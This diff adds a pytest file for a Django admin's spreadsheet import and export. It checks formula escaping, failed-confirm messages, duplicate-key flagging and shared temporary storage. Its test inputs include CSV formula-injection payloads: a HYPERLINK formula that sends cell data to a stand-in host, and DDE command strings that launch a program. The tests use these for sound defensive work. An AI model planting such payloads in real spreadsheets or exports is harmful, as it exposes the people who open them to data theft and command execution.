@@ -1,0 +1,146 @@
+"""Issue 11, spreadsheets: exported formulas stay text, a failed confirm says so, a key twice in one file is
+flagged in the preview, and the file waiting for confirmation is where every app server sees it."""
+
+import csv
+import io
+import tempfile
+
+import openpyxl
+import pytest
+from django.contrib.messages import get_messages
+from django.core.files.storage import storages
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.urls import reverse
+
+from cities.models import City, Partnership
+from cities.tests.factories import CityFactory
+
+pytestmark = pytest.mark.django_db
+
+DANGEROUS = {
+    "=": '=HYPERLINK("http://evil.example/?"&A1,"Open")',
+    "+": "+1+cmd|' /C calc'!A0",
+    "-": "-2+3+cmd|' /C calc'!A0",
+    "@": "@SUM(1+9)*cmd|' /C calc'!A0",
+    "tab": "\t=1+1",
+    "cr": "\r=1+1",
+}
+
+
+def export(client, fmt, **filters):
+    return client.post(
+        reverse("admin:cities_city_export"),
+        {"format": fmt, "resource": "0", **{f"cityresource_{f}": "on" for f in ("slug", "name_en", "longitude")}},
+    )
+
+
+def csv_rows(response):
+    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+
+
+@pytest.mark.parametrize("prefix", DANGEROUS)
+def test_a_csv_export_never_holds_a_live_formula(admin_client_, prefix):
+    CityFactory(slug="bad", name_en=DANGEROUS[prefix], longitude="-113.493800")
+
+    [row] = csv_rows(export(admin_client_, "0"))
+
+    assert row["name_en"] == "'" + DANGEROUS[prefix]
+    assert row["longitude"] == "-113.493800"  # a plain number is not a formula and stays a number
+
+
+def test_an_escaped_csv_export_imports_back_unchanged(admin_client_):
+    CityFactory(slug="bad", name_en=DANGEROUS["="], status="published")
+    exported = export(admin_client_, "0").content
+
+    preview = admin_client_.post(
+        reverse("admin:cities_city_import"),
+        {"format": "0", "resource": "0", "import_file": SimpleUploadedFile("c.csv", exported, "text/csv")},
+    )
+
+    assert preview.context["result"].totals["skip"] == 1
+
+
+def test_an_xlsx_export_stores_a_formula_as_text(admin_client_):
+    CityFactory(slug="bad", name_en=DANGEROUS["="])
+
+    book = openpyxl.load_workbook(io.BytesIO(export(admin_client_, "1").content))
+    header = [cell.value for cell in book.active[1]]
+    cell = book.active.cell(row=2, column=header.index("name_en") + 1)
+
+    assert cell.data_type == "s"
+    assert cell.value == DANGEROUS["="]
+
+
+PARTNERSHIPS_CSV = "city,kind,state,established_on,established_precision,status\n{}"
+ROW = "{},sister,active,1985-01-01,year,published\n"
+
+
+def preview(client, text, url="admin:cities_partnership_import"):
+    return client.post(
+        reverse(url),
+        {"format": "0", "resource": "0", "import_file": SimpleUploadedFile("p.csv", text.encode(), "text/csv")},
+    )
+
+
+def test_a_confirm_step_that_fails_reports_the_failure_not_success(admin_client_):
+    CityFactory(slug="edmonton")
+    doomed = CityFactory(slug="rovaniemi")
+    shown = preview(admin_client_, PARTNERSHIPS_CSV.format(ROW.format("edmonton") + ROW.format("rovaniemi")))
+    confirm = shown.context["confirm_form"].initial
+    doomed.delete()  # someone deletes a city between the preview and the confirmation
+
+    response = admin_client_.post(reverse("admin:cities_partnership_process_import"), confirm, follow=True)
+
+    texts = [str(m) for m in get_messages(response.wsgi_request)] or [str(m) for m in response.context["messages"]]
+    assert Partnership.objects.count() == 0
+    assert not any(text.startswith("Import finished") for text in texts)
+    assert any("Nothing was imported" in text and "rovaniemi" in text for text in texts)
+
+
+def test_a_key_twice_in_one_file_is_flagged_in_the_preview_and_cannot_be_confirmed(admin_client_):
+    CityFactory(slug="edmonton")
+    text = PARTNERSHIPS_CSV.format(ROW.format("edmonton") + ROW.format("edmonton").replace("sister", "friendship"))
+
+    shown = preview(admin_client_, text)
+
+    assert "confirm_form" not in shown.context
+    invalid = {row.number: row.field_specific_errors for row in shown.context["result"].invalid_rows}
+    assert sorted(invalid) == [1, 2]
+    assert "“edmonton” appears in rows 1 and 2" in " ".join(invalid[2]["city"])
+    assert "“edmonton” appears in rows 1 and 2" in shown.content.decode()
+
+
+def test_the_file_waiting_for_confirmation_is_in_shared_storage_not_this_servers_tmp(
+    admin_client_, tmp_path, monkeypatch
+):
+    CityFactory(slug="edmonton")
+    shown = preview(admin_client_, PARTNERSHIPS_CSV.format(ROW.format("edmonton")))
+    confirm = shown.context["confirm_form"].initial
+
+    # The confirmation reaches another app server: its own /tmp has never seen the file.
+    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "other-server-tmp"))
+    (tmp_path / "other-server-tmp").mkdir()
+    response = admin_client_.post(reverse("admin:cities_partnership_process_import"), confirm)
+
+    assert response.status_code == 302
+    assert Partnership.objects.get().city.slug == "edmonton"
+
+
+def test_the_waiting_file_is_kept_in_the_private_storage():
+    from django.conf import settings
+
+    assert settings.IMPORT_EXPORT_TMP_STORAGE_CLASS == "import_export.tmp_storages.MediaStorage"
+    assert settings.STORAGES["import_export"] == settings.STORAGES["private"]
+    assert storages["import_export"].base_url is None  # never under MEDIA_URL
+
+
+def test_a_lost_waiting_file_is_a_message_not_a_server_error(admin_client_):
+    CityFactory(slug="edmonton")
+    shown = preview(admin_client_, PARTNERSHIPS_CSV.format(ROW.format("edmonton")))
+    confirm = dict(shown.context["confirm_form"].initial, import_file_name="0" * 32)
+
+    response = admin_client_.post(reverse("admin:cities_partnership_process_import"), confirm, follow=True)
+
+    assert response.status_code == 200
+    assert "upload it again" in response.content.decode()
+    assert City.objects.count() == 1 and Partnership.objects.count() == 0
